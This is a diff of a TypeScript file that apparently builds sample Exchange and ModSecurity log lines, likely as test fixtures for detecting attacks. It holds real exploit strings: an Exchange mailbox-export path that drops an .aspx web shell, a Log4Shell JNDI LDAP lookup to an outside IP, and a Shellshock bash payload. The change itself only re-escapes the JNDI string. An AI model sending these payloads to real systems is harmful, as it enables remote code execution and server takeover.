@@ -11,7 +11,7 @@ const exchange = (said: string) => ({
 const exported = (result: string, path: string) =>
   exchange(`${result}. Cmdlet New-MailboxExportRequest, parameters -FilePath "${path}".`);
 const PAGE = "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\x.aspx";
-const LOOKUP = `${"$"}{jndi:ldap://198.51.100.5/a}`;
+const LOOKUP = "$\u007bjndi:ldap://198.51.100.5/a}";
 const SHELLSHOCK = "() { :; }; /bin/bash -c id";
 const modsecurity = (what: string) => line(`apache2: [client 203.0.113.9] ModSecurity: ${what}`);
 
